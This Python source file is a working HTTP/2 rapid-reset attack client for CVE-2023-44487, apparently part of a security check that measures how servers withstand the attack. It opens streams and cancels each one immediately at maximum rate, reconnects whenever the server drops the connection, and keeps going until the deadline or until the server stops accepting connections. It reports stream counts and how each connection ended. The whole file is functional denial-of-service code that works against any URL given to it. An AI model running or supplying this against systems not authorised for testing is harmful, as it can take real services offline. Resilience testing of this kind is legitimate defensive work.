"""The rapid-reset attacker (CVE-2023-44487) of the http2-frames check, as a process of its own:

    python rapid_reset_client.py URL PATH SECONDS [CA_FILE]

For SECONDS it opens streams (a GET's HEADERS, with END_STREAM) and resets each at once
(RST_STREAM, CANCEL) as fast as one connection takes them, which costs the client nothing and
the server a request it starts and abandons. When the server closes the connection, it opens
another, as an attacker would. It prints one JSON object: the streams opened and reset, the
connections used, how each ended (GOAWAY with its code, or closed), after how many streams the
first was closed, and what the server sent back (responses, RST_STREAM codes).

It runs apart from the check so that its CPU-bound loop and the check's latency probe do not
share one interpreter lock. Standard library only: it is started by file name.
"""

from __future__ import annotations

import json
import select
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from urllib.parse import urlsplit

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM_AND_HEADERS = 0x1 | 0x4
ACK = 0x1
CANCEL = 0x8
BATCH = 100  # streams written per send: small enough to notice a GOAWAY soon
QUEUED_BYTES = 64 * 1024  # more is not queued while the server is not reading
CONNECT_TIMEOUT_S = 5.0
CLOSE_WAIT_S = 1.0  # after a GOAWAY, for the server to close its side
DOWN_AFTER_FAILURES = 20  # connections refused in a row: the server is down, the attack ends


def frame_head(length: int, kind: int, flags: int, stream_id: int) -> bytes:
    """The 9-byte frame header (RFC 9113 4.1)."""
    return length.to_bytes(3, "big") + bytes([kind, flags]) + struct.pack("!I", stream_id)


def _literal(name_index: int, value: str) -> bytes:
    """A header field as a literal without indexing, its name from the static table (RFC 7541
    6.2.2); values are shorter than 127 bytes here, so the length fits the 7-bit prefix."""
    encoded = value.encode()
    if len(encoded) >= 127:
        raise ValueError(f"header value too long for this encoder: {value!r}")
    return bytes([name_index, len(encoded)]) + encoded


def header_block(path: str, scheme: str, authority: str) -> bytes:
    """A GET's header block that leaves the server's HPACK table untouched, so the same bytes
    are valid on every stream: :method GET and :scheme are static-table entries (RFC 7541
    Appendix A, indexes 2, 6 and 7), :path (4) and :authority (1) literals without indexing."""
    return (
        bytes([0x82, 0x86 if scheme == "http" else 0x87])
        + _literal(4, path)
        + _literal(1, authority)
    )


@dataclass
class Tally:
    # Streams opened and reset, every byte of both frames written. Written is not read: the
    # socket buffers between the two ends hold megabytes, so a server that closes the
    # connection may have read far fewer (a GOAWAY's last stream says how many it took).
    streams: int = 0
    connections: int = 0
    connect_failures: int = 0
    endings: Counter[str] = field(default_factory=Counter)
    server_resets: Counter[str] = field(default_factory=Counter)  # RST_STREAM codes
    responses: int = 0  # response HEADERS the server sent before a reset reached it
    first_close: dict[str, object] | None = None
    first_error: str | None = None


def connect(url: str, ca_file: str | None) -> socket.socket:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    sock = socket.create_connection((host, port), timeout=CONNECT_TIMEOUT_S)
    if parts.scheme == "https":
        context = ssl.create_default_context(cafile=ca_file)
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock, server_hostname=host)
        if sock.selected_alpn_protocol() != "h2":
            sock.close()
            raise ConnectionError("the server did not negotiate h2 by ALPN")
    return sock


class Attack:
    """One connection's attack, until the server ends it or the deadline comes."""

    def __init__(self, sock: socket.socket, block: bytes, tally: Tally, began: float) -> None:
        self.sock = sock
        self.block = block
        self.tally = tally
        self.began = began
        self.pair_length = 9 + len(block) + 9 + 4
        self.next_stream = 1
        self.streams = 0  # on this connection, fully written
        self.pending = bytearray(PREFACE + frame_head(0, SETTINGS, 0, 0))
        self.preamble = len(self.pending)
        self.control = 0  # bytes of control frames (acknowledgements) queued among the pairs
        self.written = 0
        self.incoming = bytearray()
        self.ending: str | None = None

    def batch(self) -> bytes:
        parts = []
        for _ in range(BATCH):
            stream_id = self.next_stream
            self.next_stream += 2
            parts.append(frame_head(len(self.block), HEADERS, END_STREAM_AND_HEADERS, stream_id))
            parts.append(self.block)
            parts.append(frame_head(4, RST_STREAM, 0, stream_id) + struct.pack("!I", CANCEL))
        return b"".join(parts)

    def run(self, deadline: float) -> None:
        self.sock.setblocking(False)
        while self.ending is None and time.monotonic() < deadline:
            if len(self.pending) < QUEUED_BYTES:
                self.pending += self.batch()
            readable, writable, _ = select.select([self.sock], [self.sock], [], 0.05)
            if readable or _tls_pending(self.sock):
                self.receive()
            if writable and self.ending is None:
                self.write()
        if self.ending is None:
            self.ending = "deadline"
        elif self.ending.startswith("goaway"):
            self.drain_until_closed()

    def write(self) -> None:
        try:
            sent = self.sock.send(self.pending)
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return
        except OSError as error:
            self.ending = f"closed ({type(error).__name__})"
            return
        del self.pending[:sent]
        self.written += sent
        self.streams = max(0, self.written - self.preamble - self.control) // self.pair_length

    def receive(self) -> None:
        try:
            data = self.sock.recv(65536)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError as error:
            self.ending = f"closed ({type(error).__name__})"
            return
        if not data:
            self.ending = "closed"
            return
        self.incoming += data
        while len(self.incoming) >= 9:
            length = int.from_bytes(self.incoming[:3], "big")
            if len(self.incoming) < 9 + length:
                break
            kind, flags = self.incoming[3], self.incoming[4]
            payload = bytes(self.incoming[9 : 9 + length])
            del self.incoming[: 9 + length]
            self.frame(kind, flags, payload)

    def frame(self, kind: int, flags: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.queue_control(frame_head(0, SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.queue_control(frame_head(len(payload), PING, ACK, 0) + payload)
        elif kind == HEADERS:
            self.tally.responses += 1
        elif kind == RST_STREAM and len(payload) >= 4:
            self.tally.server_resets[str(struct.unpack("!I", payload[:4])[0])] += 1
        elif kind == GOAWAY and len(payload) >= 8:
            code = struct.unpack("!I", payload[4:8])[0]
            self.ending = f"goaway {code}"
            if self.tally.first_close is None:
                self.tally.first_close = {
                    "goaway_code": code,
                    "last_stream_id": struct.unpack("!I", payload[:4])[0] & 0x7FFFFFFF,
                    "streams_sent": self.streams,
                    "after_s": round(time.monotonic() - self.began, 3),
                }

    def queue_control(self, frame: bytes) -> None:
        # Appended after whole frames only: the queue never holds half a pair at its end.
        self.pending += frame
        self.control += len(frame)

    def drain_until_closed(self) -> None:
        deadline = time.monotonic() + CLOSE_WAIT_S
        while time.monotonic() < deadline:
            readable, _, _ = select.select([self.sock], [], [], 0.05)
            if not readable:
                continue
            try:
                if not self.sock.recv(65536):
                    return
            except (BlockingIOError, ssl.SSLWantReadError):
                continue
            except OSError:
                return


def _tls_pending(sock: socket.socket) -> bool:
    """Whether TLS has decrypted bytes buffered that select() cannot see."""
    return isinstance(sock, ssl.SSLSocket) and sock.pending() > 0


def attack(url: str, path: str, seconds: float, ca_file: str | None) -> dict[str, object]:
    parts = urlsplit(url)
    block = header_block(path, parts.scheme, parts.netloc)
    tally = Tally()
    began = time.monotonic()
    deadline = began + seconds
    failures_in_a_row = 0
    while time.monotonic() < deadline and failures_in_a_row < DOWN_AFTER_FAILURES:
        try:
            sock = connect(url, ca_file)
        except (OSError, ssl.SSLError) as error:
            tally.connect_failures += 1
            failures_in_a_row += 1
            tally.first_error = tally.first_error or f"{type(error).__name__}: {error}"[:200]
            time.sleep(0.05)
            continue
        failures_in_a_row = 0
        tally.connections += 1
        one = Attack(sock, block, tally, began)
        try:
            one.run(deadline)
        finally:
            sock.close()
        tally.streams += one.streams
        assert one.ending is not None
        tally.endings[one.ending] += 1
        if tally.first_close is None and one.ending != "deadline":
            tally.first_close = {
                "goaway_code": None,
                "last_stream_id": None,
                "streams_sent": one.streams,
                "after_s": round(time.monotonic() - began, 3),
            }
    elapsed = time.monotonic() - began
    return {
        "seconds": round(elapsed, 3),
        "streams": tally.streams,
        "streams_per_s": round(tally.streams / elapsed, 1) if elapsed > 0 else None,
        "connections": tally.connections,
        "connect_failures": tally.connect_failures,
        "first_connect_error": tally.first_error,
        "endings": dict(tally.endings),
        "first_close": tally.first_close,
        "server_resets": dict(tally.server_resets),
        "responses": tally.responses,
    }


def main() -> None:
    url, path, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    ca_file = sys.argv[4] if len(sys.argv) > 4 else None
    print(json.dumps(attack(url, path, seconds, ca_file), sort_keys=True), flush=True)


if __name__ == "__main__":
    main()
